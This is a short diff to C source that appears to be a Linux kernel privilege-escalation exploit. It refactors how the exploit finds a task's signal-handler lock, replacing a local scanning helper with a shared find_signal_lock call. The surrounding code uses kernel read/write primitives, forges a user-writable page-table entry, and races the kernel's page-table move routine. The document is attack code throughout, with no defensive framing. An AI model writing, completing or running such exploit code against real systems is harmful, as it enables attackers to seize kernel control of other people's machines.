@@ -22,8 +22,6 @@
 #define MOVER		"__move_ptes"	/* where page tables are protected */
 #define MOVER_WITHOUT	"move_page_tables"
 #define MOVER_SIZE	0x1000		/* at most */
-#define TASK_WORDS	2048		/* at most */
-#define SIGHAND_SIZE	1024		/* begins with the lock; has all handlers */
 #define INTERVAL	1000		/* microseconds */
 #define MOVER_CPU	1
 #define MOVED_PART	0x5d		/* and the next one */
@@ -182,20 +180,6 @@ static uint64_t now_ms(void)
 	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
 }
 
-/* What the task points to that has the handler of its signal. */
-static uint64_t find_lock(const struct task *task)
-{
-	static uint64_t words[TASK_WORDS];
-	size_t i;
-
-	kread(task->task, words, sizeof(words));
-	for (i = 0; i < TASK_WORDS; i++)
-		if (is_kernel_address(words[i]) &&
-		    find_word(words[i], SIGHAND_SIZE, (uint64_t)on_alarm))
-			return words[i];
-	return 0;
-}
-
 static bool find_target(pid_t pid, struct target *target)
 {
 	char zero[PAGE_SIZE];
@@ -214,7 +198,7 @@ static bool find_target(pid_t pid, struct target *target)
 	memset(zero, 0, sizeof(zero));
 	kwrite(target->forged.addr, zero, sizeof(zero));
 	target->entry = (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW | PTE_SPECIAL;
-	target->lock = find_lock(&target->task);
+	target->lock = find_signal_lock(&target->task, on_alarm);
 	return target->lock;
 }
 
